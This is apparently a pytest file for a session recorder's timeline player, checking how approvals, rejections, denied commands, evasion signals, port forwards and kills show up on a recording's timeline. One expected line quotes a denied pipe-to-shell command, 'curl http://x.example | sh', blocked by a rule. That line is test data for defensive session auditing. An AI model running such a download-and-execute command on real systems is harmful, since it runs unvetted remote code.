"""The timeline model (recorder.timeline) and what the player adds to it (player.sources),
on recordings written by the real recorder, with the real approval queue and audit log."""

from __future__ import annotations

import json
from pathlib import Path

from player_recordings import AUDIT_START

from player.archive import Archive
from recorder import events as ev
from recorder import timeline as tl
from recorder.settings import RecorderSettings


def _kinds(entries: list[tl.Entry]) -> list[tuple[float, str]]:
    return [(round(e.time, 1), e.kind) for e in entries]


def test_every_decision_approval_kill_and_forward_on_the_timeline(
        audit_settings: RecorderSettings) -> None:
    archive = Archive(audit_settings)
    try:
        data = archive.open("audit-erin-0005")
    finally:
        archive.close()
    assert _kinds(data.entries) == [
        (1.0, "held"), (3.0, "forward"), (6.0, "approved"), (8.0, "held"), (12.0, "rejected"),
        (14.0, "denied"), (15.0, "evasion"), (16.3, "resize"), (17.3, "allowed"),
        (20.3, "command"), (22.3, "kill"), (22.8, "exit")]
    held, forward, approved, held2, rejected, denied, evasion, resize, allowed, _cmd, kill, \
        exit_ = data.entries
    assert held.fields["rule"] == "approve-service-stop"
    assert held.fields["request_id"] == "1" and held.fields["outcome"] == "approved"
    assert held.fields["request_reason"] == "stopping a service needs approval"
    assert held.fields["requester"] == "erin"
    assert approved.fields["approver"] == "bob"
    assert approved.fields["approver_reason"] == "maintenance window"
    assert approved.fields["held_at"] == 1.0
    assert approved.fields["requested_at"] == AUDIT_START + 1.0
    assert approved.text == "approved by bob: maintenance window  (#1 $ systemctl stop pg)"
    assert held2.fields["outcome"] == "denied"
    assert rejected.text == "denied by carol: not without a ticket  (#2 $ userdel mallory)"
    assert denied.text == ("$ curl http://x.example | sh  denied by rule no-pipe-to-shell: "
                           "piping downloads into a shell")
    assert evasion.fields == {"signal": "mismatch",
                              "detail": "typed 12 characters, the line shows 4"}
    assert resize.fields == {"cols": 121, "rows": 40}  # the burst of resizes is one entry
    assert allowed.text == "$ seq 60  allowed by rule seq-ok: harmless"
    assert forward.fields == {"to": "db.internal:5432"}  # the other connection's is not
    assert kill.fields["by"] == "bob" and kill.fields["reason"] == "data exfiltration"
    assert exit_.exit_status == 255
    # the keys are stable: reopening gives the same
    archive = Archive(audit_settings)
    try:
        again = archive.open("audit-erin-0005")
    finally:
        archive.close()
    assert [e.key for e in again.entries] == [e.key for e in data.entries]


def test_a_pending_request_is_found_in_the_queue(audit_settings: RecorderSettings) -> None:
    """A held command whose outcome is not in the recording (the session is still
    waiting, or ended first) gets its request and outcome from the approval queue."""
    events = [
        ev.Event(ev.COMMAND, 1.0, ev.dumps({"text": "reboot", "source": "interactive"})),
        ev.Event(ev.POLICY, 1.0, ev.dumps({"command": "reboot", "action": "approve",
                                           "rule": "r", "reason": "needs approval"})),
    ]
    ctx = tl.Context(approvals={"7": tl.ApprovalInfo("7", "erin", "reboot", "r", "my reason",
                                                     "pending", 1001.2)})
    (held,) = tl.build(events, start_time=1000.0, context=ctx)
    assert held.kind == "held" and held.fields["request_id"] == "7"
    assert held.fields["outcome"] == "pending" and held.fields["request_reason"] == "my reason"
    (held,) = tl.build(events, start_time=1000.0)
    assert held.fields["outcome"] == "pending or unknown"


def test_unknown_actions_and_generic_events_are_never_hidden() -> None:
    events = [
        ev.Event(ev.POLICY, 1.0, ev.dumps({"command": "x", "action": "quarantine",
                                           "rule": "q", "reason": "new action"})),
        ev.Event(ev.GENERIC, 2.0, ev.dumps({"kind": "something-new", "fields": {"a": 1}})),
        ev.Event(ev.GENERIC, 3.0, ev.dumps({"kind": "forward", "fields": {"to": "h:22"}})),
        ev.Event(ev.GAP, 4.0, ev.dumps({"reason": "queue full", "dropped_bytes": 10})),
        ev.Event(ev.APPROVAL, 5.0, ev.dumps({"request_id": "3", "command": "y",
                                             "decision": "expired", "approver": None,
                                             "reason": ""})),
        ev.Event(ev.MARKER, 6.0, ev.dumps({"text": "session ended: idle timeout"})),
    ]
    ctx = tl.Context(audit=[tl.AuditInfo(1002.0, "forward", "ok", {"to": "audit-only:1"})])
    entries = tl.build(events, start_time=1000.0, context=ctx)
    assert [(e.kind, e.text) for e in entries] == [
        ("policy", "$ x  quarantine (rule q: new action)"),
        ("marker", "something-new: a=1"),
        ("forward", "forward to=h:22"),  # recorded forwards replace the audit log's
        ("gap", "recorder gap: queue full (10 bytes lost)"),
        ("expired", "expired  (#3 $ y)"),
        ("marker", "session ended: idle timeout"),  # not a kill without a kill request
    ]
    assert json.loads(json.dumps([e.to_json() for e in entries]))  # JSON-able


def test_sources_survive_missing_and_foreign_files(tmp_path: Path,
                                                  settings: RecorderSettings) -> None:
    from player import sources

    (tmp_path / "approvals.sqlite3").write_bytes(b"not a database")
    assert sources.approvals_context(tmp_path / "approvals.sqlite3", "x") == ({}, None)
    assert sources.approvals_context(tmp_path / "missing.sqlite3", "x") == ({}, None)
    audit = tmp_path / "audit.jsonl"
    audit.write_bytes(b"garbage\n" + b"x" * 100_000 + b"\n{\"kind\": \"evasion\"}\n")
    archive = Archive(settings, audit_file=audit)
    try:
        data = archive.open("play-alice-0001")  # opens, with the recording's timeline only
    finally:
        archive.close()
    assert [e.kind for e in data.entries].count("denied") == 1
    assert not (tmp_path / "missing.sqlite3").exists()  # read-only: nothing created
